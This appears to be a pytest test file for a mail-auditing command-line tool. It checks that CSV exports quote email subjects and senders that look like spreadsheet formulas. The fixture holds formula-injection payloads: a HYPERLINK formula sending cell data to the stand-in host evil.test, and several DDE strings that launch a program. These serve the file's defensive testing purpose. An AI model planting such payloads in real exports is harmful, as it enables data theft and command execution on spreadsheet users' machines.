"""CSV exports open in a spreadsheet without running formulas a stranger wrote in a mail."""

from __future__ import annotations

import csv
import io
import json
import mailbox
import os
import subprocess
import sys
from email.message import EmailMessage

import pytest
from click.testing import CliRunner

from auditor.cli import main

FORMULA = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {  # subject -> sender, as a stranger may write them
    '=HYPERLINK("http://evil.test/?d="&A1,"Click")': "=cmd|' /C calc'!A0 <a@evil.test>",
    "+SUM(1+1)*cmd|' /C calc'!A0": "+33 6 12 34 56 78 <b@evil.test>",
    "-2+3+cmd|' /C calc'!A0": "-x <c@evil.test>",
    "@SUM(1+1)*cmd|' /C calc'!A0": "@evil <d@evil.test>",
    "\t=1+1 behind a tab": "Tab <e@evil.test>",
    "Réunion du bureau — ordre du jour": "Bureau <bureau@asso.test>",
}


@pytest.fixture
def runner(tmp_path, monkeypatch) -> CliRunner:
    monkeypatch.setenv("AUDITOR_CONFIG", str(tmp_path / "no-config.toml"))
    monkeypatch.setenv("AUDITOR_DB", str(tmp_path / "store.sqlite3"))
    box = mailbox.mbox(tmp_path / "hostile.mbox")
    for number, (subject, sender) in enumerate(HOSTILE.items()):
        msg = EmailMessage()
        msg["From"] = sender
        msg["To"] = "accueil@asso.test"
        msg["Subject"] = subject
        msg["Date"] = f"Mon, {number + 1:02d} Jun 2026 10:00:00 +0200"
        msg["Message-ID"] = f"<{number}@evil.test>"
        msg.set_content("Bonjour\n")
        box.add(msg)
    box.flush()
    result = CliRunner().invoke(
        main, ["scan", "--no-host", "-q", "--mbox", str(tmp_path / "hostile.mbox")]
    )
    assert result.exit_code in (0, 1), result.output
    return CliRunner()


def query_csv(runner: CliRunner, sql: str) -> list[list[str]]:
    result = runner.invoke(main, ["query", sql, "--format", "csv"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return list(csv.reader(io.StringIO(result.output)))


def test_mail_text_that_looks_like_a_formula_is_quoted_as_text(runner):
    sql = "SELECT subject, from_addr FROM latest_messages ORDER BY subject"
    rows = query_csv(runner, sql)
    stored = json.loads(runner.invoke(main, ["query", sql, "--format", "json"]).output)
    assert rows[0] == ["subject", "from_addr"] and len(rows) == len(HOSTILE) + 1
    quoted = 0
    for cells, row in zip(rows[1:], stored, strict=True):
        for cell, value in zip(cells, row.values(), strict=True):
            assert not cell.startswith(FORMULA), cell
            if value.startswith(FORMULA):
                assert cell == "'" + value  # shown as the text the stranger wrote
                quoted += 1
            else:
                assert cell == value
    assert quoted >= 5  # =HYPERLINK, +SUM, -2+3, @SUM subjects and the =cmd sender at least
    assert ["Réunion du bureau — ordre du jour", "bureau@asso.test"] in rows


def test_numbers_stay_numbers_even_negative_ones(runner):
    rows = query_csv(
        runner,
        "SELECT -5 AS loss, 2.5 AS ratio, '-12' AS text_number, '-1+cmd' AS formula, "
        "count(*) AS n FROM latest_messages",
    )
    assert rows == [
        ["loss", "ratio", "text_number", "formula", "n"],
        ["-5", "2.5", "-12", "'-1+cmd", str(len(HOSTILE))],
    ]


def test_history_csv_goes_through_the_same_cells(runner):
    result = runner.invoke(main, ["history", "--format", "csv"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    assert rows[0][:3] == ["run", "started", "status"] and len(rows) == 2
    from auditor.report.spreadsheet import safe_cell  # the one function both exports use

    assert safe_cell("=1+1") == "'=1+1" and safe_cell(-3) == -3 and safe_cell(None) is None


@pytest.mark.parametrize(
    ("locale", "words"), [("en_GB.UTF-8", "with a leading '"), ("fr_FR.UTF-8", "précédé d'une '")]
)
@pytest.mark.parametrize("command", ["query", "history"])
def test_csv_help_says_so_in_both_languages(command, locale, words):
    env = dict(os.environ, LC_ALL=locale)
    proc = subprocess.run(
        [sys.executable, "-m", "auditor", command, "--help"],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    assert words in " ".join(proc.stdout.split())
